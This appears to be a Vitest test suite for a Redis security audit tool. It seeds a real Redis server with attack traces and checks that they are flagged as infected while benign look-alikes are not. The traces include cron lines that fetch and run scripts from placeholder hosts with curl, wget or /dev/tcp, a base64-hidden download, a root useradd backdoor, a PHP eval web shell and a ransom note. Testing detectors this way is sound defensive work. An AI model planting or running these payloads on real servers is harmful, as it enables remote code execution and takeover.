import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { AuditKnowledge } from '../src/audit/audit-server.ts';
import { createLearntIndex } from '../src/audit/infection/learnt.ts';
import { loadVulnerabilities } from '../src/audit/vulnerable/vulnerability-data.ts';
import { loadKnowledge } from '../src/cli/knowledge.ts';
import { createRuleMatcher } from '../src/detect/rule-matcher.ts';
import type { AuditReport } from '../src/model/audit-report.ts';
import { packagedText } from '../src/platform/files.ts';
import { audit } from './peers/hostile-audit.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';

/** The shipped rules and campaigns, and no sensor: what a first run of the audit knows. */
function shipped(): AuditKnowledge {
  const { rules, campaigns } = loadKnowledge();
  return {
    rules: createRuleMatcher(rules),
    campaigns,
    learnt: createLearntIndex([]),
    vulnerabilities: loadVulnerabilities(packagedText('data/redis-cves.json')),
  };
}

const knowledge = shipped();
let server: RealRedis;
beforeAll(async () => {
  server = await startRedis();
});
afterAll(() => server.stop());

async function auditOf(values: Readonly<Record<string, string>>): Promise<AuditReport> {
  await server.client.flushall();
  // A flush counts as an attack's trace; here it is the test's own broom.
  await server.client.config('RESETSTAT');
  for (const [key, value] of Object.entries(values)) await server.client.set(key, value);
  return audit(`127.0.0.1:${server.port}`, { knowledge });
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const SSH_KEY = `ssh-rsa ${base64(`\0\0\0\u0007ssh-rsa\0\0\0\u0003\u0001\0\u0001${'k'.repeat(256)}`)}`;

describe('families of attacks, by the values they leave', () => {
  test.for<[string, Record<string, string>]>([
    ['crackit', { crackit: `\n\n\n${SSH_KEY} x@y\n\n\n` }],
    ['an SSH key under a strange name', { qzvtt: `\n\n${SSH_KEY}\n\n` }],
    ['useradd by cron', { user1: '\n*/1 * * * * root /usr/sbin/useradd -ou 0 -g 0 syss\n' }],
    [
      'RedisWannaMine',
      {
        Backup3: '\t\n*/10 * * * * lynx -source https://transfer.example.invalid/a/b > .cmd && bash .cmd\n\t',
      },
    ],
    [
      'the backup keys',
      {
        backup1: '\n\n\n*/2 * * * * cd1 -fsSL http://203.0.113.9/b2f628/b.sh | sh\n\n',
        backup2: '\n\n\n*/3 * * * * wget -q -O- http://203.0.113.9/b2f628/b.sh | sh\n\n',
        backup3: '\n\n\n*/4 * * * * root curl -fsSL http://203.0.113.9/b2f628/b.sh | sh\n\n',
        backup4:
          '\n\n\n@hourly python -c "import urllib2; print urllib2.urlopen(\'http://203.0.113.9/t.sh\').read()" >.1;chmod +x .1;./.1\n\n',
      },
    ],
    [
      'a hidden command',
      {
        x1: `\n*/2 * * * * root echo ${base64('curl -fsSL http://203.0.113.9/a.sh | bash')} | base64 -d | bash | bash\n`,
      },
    ],
    [
      'a download through /dev/tcp',
      {
        weapon2:
          "\n*/5 * * * * bash -c 'exec 6<>/dev/tcp/203.0.113.9/60114 && cat 0<&6 > /tmp/a && chmod +x /tmp/a && /tmp/a'\n",
      },
    ],
    ['a web shell', { shell: '<?php @eval($_POST["c"]); ?>' }],
    [
      'a ransom note',
      {
        README:
          'Your data is backed up. Send 0.1 BTC to 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa to recover it. Contact a@b.example.invalid',
      },
    ],
  ])('%s: infected', async ([, values]) => {
    const report = await auditOf(values);

    expect(report.axes.infected).toMatchObject({ answer: 'yes' });
    expect(report.counts.maliciousValues).toBe(Object.keys(values).length);
  });
});

describe('honest look-alikes', () => {
  test.for<[string, Record<string, string>]>([
    [
      'job queues',
      {
        'bull:backup:id': '12',
        'stat:failed': '3',
        'redbeat:nightly': '{"schedule":{"minute":"*/5","hour":"*"},"task":"app.backup"}',
      },
    ],
    [
      'a WordPress cache',
      {
        'wp:1:posts:4':
          'O:7:"WP_Post":1:{s:12:"post_content";s:90:"<p>Never write <code>&lt;?php eval($x)</code></p><script src=\'https://cdn.example.com/a.js\'></script>";}',
      },
    ],
    [
      'a CI job',
      {
        'ci:job:9:script':
          '{"stage":"deploy","script":["curl -fsSL https://get.example.com/tool.sh | sh","make deploy"]}',
      },
    ],
    ['SSH keys of a forge', { 'gitea:user:4:keys': `{"key":"${SSH_KEY} ann@laptop"}` }],
    [
      'a session',
      {
        'spring:session:sessions:ab':
          '\u00AC\u00ED\u0000\u0005sr\u0000\u0011java.lang.Integer\u0012\u00E2\u00A0\u00A4\u00F7\u0081\u00878\u0002',
      },
    ],
    ['a price in bitcoin', { 'rates:btc': '{"pair":"BTC-USD","price":"97231.11"}' }],
    ['names of developers', { test: 'test', foo: 'bar', name: 'abc', '1': '1' }],
  ])('%s: not infected', async ([, values]) => {
    const report = await auditOf(values);

    expect(report.axes.infected).toMatchObject({ answer: 'no' });
    expect(report.counts.maliciousValues).toBe(0);
  });

  test('settings that operators choose: not infected', async () => {
    await auditOf({});
    await server.client.config('SET', 'rdbcompression', 'no');
    await server.client.config('SET', 'stop-writes-on-bgsave-error', 'no');
    await server.client.config('SET', 'protected-mode', 'no');
    await server.client.replicaof('10.0.0.7', 6_379);
    await server.client.replicaof('NO', 'ONE');

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge });

    expect(report.axes.infected.answer).toBe('no');
  });
});
